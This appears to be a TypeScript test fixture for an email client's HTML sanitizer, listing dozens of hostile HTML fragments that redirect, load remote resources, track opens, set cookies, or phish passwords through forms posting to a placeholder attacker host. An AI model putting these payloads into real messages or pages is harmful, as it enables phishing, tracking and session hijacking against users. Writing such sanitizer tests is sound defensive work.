/** What loads, leads away, asks, or opens: elements of documents that a letter has no use for. */
import { attacks } from "./attack.ts";

export const documents = [
  ...attacks("leads away", {
    refresh: '<meta http-equiv="refresh" content="0;url=EVIL">',
    "refresh of data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
    "a cookie": '<meta http-equiv="set-cookie" content="angarium_session=x">',
    "a policy": `<meta http-equiv="content-security-policy" content="script-src 'none'; report-uri EVIL">`,
    "a referrer": '<meta name="referrer" content="unsafe-url"><img src="EVIL">',
    "a base": '<base href="EVIL/"><img src="x.png"><a class=click href="x">x</a>',
    "a base target": '<base target="_top"><a class=click href="EVIL">https://example.test/</a>',
    "a link to the top": '<a class=click target="_top" href="EVIL">https://example.test/</a>',
    "a link into a frame of ours": '<a class=click target="Message" href="EVIL">https://example.test/</a>',
    "a download": '<a class=click download="x.exe" href="EVIL">https://example.test/x.pdf</a>',
    "a ping": '<a class=click ping="EVIL" href="EVIL">https://example.test/</a>',
    "an attribution":
      '<a class=click attributionsrc="EVIL" href="EVIL">https://example.test/</a><img attributionsrc="EVIL">',
  }),
  ...attacks("loads", {
    "a picture": '<img src="EVIL" width=200 height=100>',
    "a picture without a scheme": '<img src="//HOST" width=200 height=100>',
    "a picture with a backslash": '<img src="https:\\\\HOST" width=200 height=100>',
    "a picture of ours that does something": '<img src="/auth/logout"><img src="/jmap/session">',
    "a set of pictures": '<img srcset="EVIL 1x, EVIL 2x"><picture><source srcset="EVIL"><img></picture>',
    "a picture later": '<img loading=lazy src="EVIL" width=200 height=100>',
    "an old picture": '<image src="EVIL">',
    "a pixel": '<img src="EVIL/open.gif" width=1 height=1>',
    "a background": '<table background="EVIL"><tr><td background="EVIL">x</table>',
    "an iframe": '<iframe src="EVIL"></iframe>',
    "an iframe of data": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "an iframe of ours": '<iframe src="/" style="position:fixed;inset:0"></iframe>',
    frames: '<frameset><frame src="EVIL"></frameset>',
    "a portal and a fence": '<portal src="EVIL"></portal><fencedframe src="EVIL"></fencedframe>',
    "an object": '<object data="EVIL" type="text/html"></object>',
    "an object with parameters": '<object classid="clsid:x"><param name="movie" value="EVIL"></object>',
    "an embed": '<embed src="EVIL" type="image/svg+xml">',
    "an applet": '<applet code="x" archive="EVIL"></applet>',
    "a film": '<video src="EVIL" poster="EVIL" autoplay></video>',
    "a sound": '<audio src="EVIL" autoplay preload=auto></audio><bgsound src="EVIL">',
    "a track": '<video><source src="EVIL"><track default src="EVIL"></video>',
    "a prefetch":
      '<link rel="prefetch" href="EVIL"><link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="//HOST">',
    "a preload": '<link rel="preload" as="image" href="EVIL"><link rel="modulepreload" href="EVIL">',
    "an icon and a manifest": '<link rel="icon" href="EVIL"><link rel="manifest" href="EVIL">',
    "an old HTML": '<html manifest="EVIL"><head profile="EVIL">',
    "an input picture": '<input type="image" src="EVIL">',
    "a quote and an edit": '<blockquote cite="EVIL">x</blockquote><ins cite="EVIL">x</ins><img longdesc="EVIL">',
    xinclude: '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="EVIL"/>',
    "xml data": '<xml id=x src="EVIL"></xml><?xml-stylesheet href="EVIL"?>',
    "an import of HTML": '<link rel="import" href="EVIL">',
    "a VML picture": '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="EVIL"/></v:rect>',
    "a custom element": '<x-evil src="EVIL" onclick=RUN>x</x-evil>',
  }),
  ...attacks("form", {
    "for a password":
      '<form action="EVIL" method=post>Password: <input type=password name=p><button class=click>Sign in</button></form>',
    "that sends itself": '<form action="EVIL"><input name=x value=y autofocus onfocus=submit()></form>',
    "of ours": '<form action="/auth/logout" method=post><button class=click>x</button></form>',
    "by mail":
      '<form action="mailto:evil@evil.test" method=post enctype=text/plain><input name=x><button class=click>x</button></form>',
    "a button far away": '<form id=f action="EVIL"></form><button class=click form=f formtarget=_top>x</button>',
    "a field that is filled in":
      '<form action="EVIL"><input name=email autocomplete=email><input name=cc autocomplete=cc-number></form>',
    "a dialog": "<form method=dialog><button class=click>x</button></form>",
    "an isindex": '<isindex action="EVIL" prompt="Password">',
    "writing in the letter": "<div contenteditable autofocus>Type your password</div>",
  }),
];
